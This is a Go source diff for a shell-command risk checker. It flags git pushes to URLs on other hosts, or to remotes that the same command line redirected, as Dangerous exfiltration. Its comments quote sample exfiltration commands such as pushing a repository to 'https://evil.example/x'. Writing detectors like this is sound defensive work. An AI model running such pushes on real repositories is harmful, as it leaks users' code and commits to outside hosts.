@@ -1848,7 +1848,112 @@ func checkGit(s *state, name string, args []word, cx judgeCtx, j *judgement) inf
 			}
 		}
 	}
+	if i < len(args) {
+		s.gitPushes(name, args[i].s, args[i+1:], j)
+	}
 	return info{}
+}
+
+// gitPushes judges where git push (send-pack, http-push) sends the
+// repository: to a URL on another host rather than to a remote the
+// repository has (git push https://evil.example/x, git push
+// host:x.git), or to a remote the line itself pointed at one (git
+// remote add e URL && git push e), it sends every commit there, as scp
+// of the repository to another host does (Dangerous). It records the
+// remotes git remote add, git remote set-url and git config
+// remote.NAME.url (or pushurl) point at such a URL.
+func (s *state) gitPushes(name, sub string, args []word, j *judgement) {
+	switch sub {
+	case "remote":
+		if len(args) == 0 || (args[0].s != "add" && args[0].s != "set-url") {
+			return
+		}
+		var ops []word
+		for k := 1; k < len(args); k++ {
+			switch a := args[k].s; {
+			case a == "-t" || a == "-m":
+				k++ // git remote add -t BRANCH -m MASTER
+			case strings.HasPrefix(a, "-"):
+			default:
+				ops = append(ops, args[k])
+			}
+		}
+		if len(ops) >= 2 && remoteURL(ops[1]) {
+			s.pointRemote(ops[0].s)
+		}
+	case "config":
+		for k := 0; k+1 < len(args); k++ {
+			// The section and the key are read in any case, the remote's
+			// name (the subsection) as written.
+			key := args[k].s
+			if len(key) < len("remote.") || !strings.EqualFold(key[:len("remote.")], "remote.") {
+				continue
+			}
+			rest := key[len("remote."):]
+			dot := strings.LastIndexByte(rest, '.')
+			if dot <= 0 || (!strings.EqualFold(rest[dot+1:], "url") && !strings.EqualFold(rest[dot+1:], "pushurl")) {
+				continue
+			}
+			if remoteURL(args[k+1]) {
+				s.pointRemote(rest[:dot])
+			}
+		}
+	case "push", "send-pack", "http-push":
+		var repo *word
+		for k := 0; k < len(args) && repo == nil; k++ {
+			switch a := args[k].s; {
+			case a == "--repo":
+				if k+1 < len(args) {
+					repo = &args[k+1]
+				}
+			case strings.HasPrefix(a, "--repo="):
+				v := args[k].cut(len("--repo="))
+				repo = &v
+			case a == "-o" || a == "--push-option" || a == "--receive-pack" || a == "--exec":
+				k++
+			case a == "--":
+			case strings.HasPrefix(a, "-"):
+			default:
+				repo = &args[k]
+			}
+		}
+		switch {
+		case repo != nil && remoteURL(*repo):
+			j.add(Dangerous, name+" "+sub+" to "+repo.s+", a URL rather than a remote the repository has, sends the repository's commits wherever it points")
+		case repo != nil && repo.unknown():
+			j.add(Dangerous, name+" "+sub+" to "+repo.s+", known only when it runs, which may be a URL on another host: it sends the repository's commits there")
+		case repo != nil && s.pushRemotes[repo.s]:
+			j.add(Dangerous, name+" "+sub+" to "+repo.s+", a remote this line pointed at another URL, sends the repository's commits there")
+		case repo == nil && len(s.pushRemotes) > 0:
+			j.add(Dangerous, name+" "+sub+" to the branch's remote, which this line may have pointed at another URL, sends the repository's commits there")
+		}
+	}
+}
+
+// pointRemote records that the line pointed the git remote name at a
+// URL on another host.
+func (s *state) pointRemote(name string) {
+	if s.pushRemotes == nil {
+		s.pushRemotes = map[string]bool{}
+	}
+	s.pushRemotes[name] = true
+}
+
+// remoteURL reports whether w, a git repository argument, names one on
+// another host: a URL whose scheme is not file://, or the scp-like
+// [user@]host:path, which git reads so when no slash comes before the
+// first colon. A local path (../backup, /srv/git/x.git) is not one; an
+// expansion whose value is not known may be (see gitPushes).
+func remoteURL(w word) bool {
+	if w.unknown() {
+		return false
+	}
+	v := w.s
+	if scheme, _, ok := strings.Cut(v, "://"); ok {
+		return !strings.EqualFold(scheme, "file")
+	}
+	host, _, ok := strings.Cut(v, ":")
+	return ok && len(host) > 1 && !strings.Contains(host, "/")
 }
 
 // checkSource judges source and ".": running a process substitution runs
